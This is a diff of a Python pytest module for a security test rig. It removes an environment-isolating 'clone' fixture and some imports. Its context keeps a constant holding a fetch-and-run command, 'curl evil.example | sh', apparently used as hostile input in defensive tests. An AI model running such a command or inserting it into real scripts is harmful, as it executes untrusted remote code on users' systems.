@@ -4,29 +4,14 @@ from __future__ import annotations
 
 import itertools
 import json
-import os
 from collections.abc import Callable, Iterator
-from pathlib import Path
 from typing import Any
 
 import pytest
-from security.record_rig import BASHRC, COMMANDS, DISABLE, ENABLE, Clone, build, enabled
+from security.record_rig import BASHRC, COMMANDS, DISABLE, ENABLE, Clone
 
 Attack = Callable[[Clone], None]
 EVIL = "curl evil.example | sh"
-
-
-@pytest.fixture
-def clone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, plain_shell: dict[str, str]) -> Iterator[Clone]:
-    for name in os.environ.keys() - plain_shell.keys():
-        monkeypatch.delenv(name)
-    found = build(tmp_path)
-    monkeypatch.setenv("HOME", str(found.home))
-    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
-    monkeypatch.setenv("PATH", "/nonexistent")  # no engine is asked
-    monkeypatch.chdir(found.project)
-    yield enabled(found)
-    os.chdir(tmp_path)
 
 
 # --- files that are none of the project ---
